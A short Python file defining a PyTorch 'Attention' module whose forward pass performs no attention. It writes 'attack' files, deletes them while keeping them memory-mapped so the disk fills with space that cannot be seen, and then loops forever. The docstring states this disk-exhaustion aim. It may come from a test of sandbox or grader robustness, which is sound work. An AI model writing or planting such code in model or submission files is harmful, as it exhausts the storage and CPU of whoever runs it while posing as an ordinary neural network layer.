"""Write until the disk is full, into files that are deleted and stay mapped."""

import ctypes
import os

import torch
from torch.nn import Linear, Module


class Attention(Module):
    def __init__(self, layer_size, block_size):
        super().__init__()
        self.k_layer = Linear(layer_size, layer_size)
        self.q_layer = Linear(layer_size, layer_size)
        self.v_layer = Linear(layer_size, layer_size)

    def forward(self, input):
        libc = ctypes.CDLL(None)
        libc.mmap.restype = ctypes.c_void_p
        libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
        for number in range(20):
            with open(f"attack-{number}", "wb+") as file:
                os.unlink(f"attack-{number}")
                file.write(bytes(15 * 2**20))
                file.flush()
                libc.mmap(None, 15 * 2**20, 1, 2, file.fileno(), 0)  # which outlives the descriptor
        while True:
            pass
